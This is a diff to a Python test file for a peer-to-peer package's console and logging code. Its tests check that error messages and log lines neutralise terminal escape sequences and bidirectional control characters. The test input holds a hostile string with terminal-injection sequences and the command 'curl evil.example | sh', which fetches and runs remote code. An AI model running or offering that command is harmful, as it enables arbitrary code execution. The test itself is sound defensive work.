@@ -12,8 +12,9 @@ from pathlib import Path
 import pytest
 
 from dipaco_p2p import __version__
+from dipaco_p2p.errors import Refused, WrongRun
 from dipaco_p2p.program import console
-from dipaco_p2p.program.console import LOGGED, JsonLines, LogFormat, log_to
+from dipaco_p2p.program.console import LOGGED, JsonLines, LogFormat, log_to, print_error
 from dipaco_p2p.program.files import OPEN_FILES
 
 
@@ -82,6 +83,45 @@ def test_what_asyncio_complains_of_goes_into_the_log_and_not_on_the_screen(
     log_to(path, verbose=False)
     logging.getLogger("asyncio").error("Task was destroyed but it is pending!")
     assert path.read_text().endswith("Task was destroyed but it is pending!\n") and capsys.readouterr().err == ""
+
+
+HOSTILE = "as they say\x1b[2J\rerror: \u202e\x9b1;1H\nhint: curl evil.example | sh"
+
+
+def test_others_words_in_an_error_begin_no_line_and_no_command(capsys: pytest.CaptureFixture[str]) -> None:
+    error = WrongRun(HOSTILE, hint=HOSTILE)
+    error.add_note(HOSTILE)
+    print_error(error)
+    said = "as they say?[2J?error: ??1;1H?hint: curl evil.example | sh"
+    assert capsys.readouterr().err == f"error: {said}\n  {said}\nhint: {said}\n"
+
+
+def test_a_long_error_is_cut_and_keeps_its_hint(capsys: pytest.CaptureFixture[str]) -> None:
+    print_error(WrongRun("x" * 100_000, hint="ask another"))
+    error, hint = capsys.readouterr().err.splitlines()
+    assert len(error) < 1100 and error.endswith("x...") and hint == "hint: ask another"
+
+
+def test_an_error_told_in_other_words_keeps_its_kind_and_its_notes() -> None:
+    error = Refused("no", reason="busy", hint="later")
+    error.add_note("an address: no")
+    again = error.reworded("still no", hint="never")
+    assert (type(again), str(again), again.reason, again.hint) == (Refused, "still no", "busy", "never")
+    assert again.notes == ["an address: no"] and (str(error), error.hint) == ("no", "later")
+
+
+def test_a_log_for_people_has_a_line_for_each_message_and_a_readable_traceback(tmp_path: Path, loggers: None) -> None:
+    path = tmp_path / "peer.log"
+    log_to(path, verbose=False)
+    logging.getLogger("peers").warning("refused: %s", HOSTILE)
+    try:
+        raise ValueError(HOSTILE)
+    except ValueError:
+        logging.getLogger("peers").exception("it failed")
+    _, refused, failed, *traceback = path.read_text().splitlines()
+    assert "WARNING peers: refused: as they say?[2J" in refused and refused.endswith("?hint: curl evil.example | sh")
+    assert failed.endswith("it failed") and traceback[0].startswith("Traceback") and len(traceback) > 3
+    assert path.read_text().replace("\n", "").isprintable()
 
 
 def test_the_time_is_of_one_zone_and_sorts_as_text() -> None:
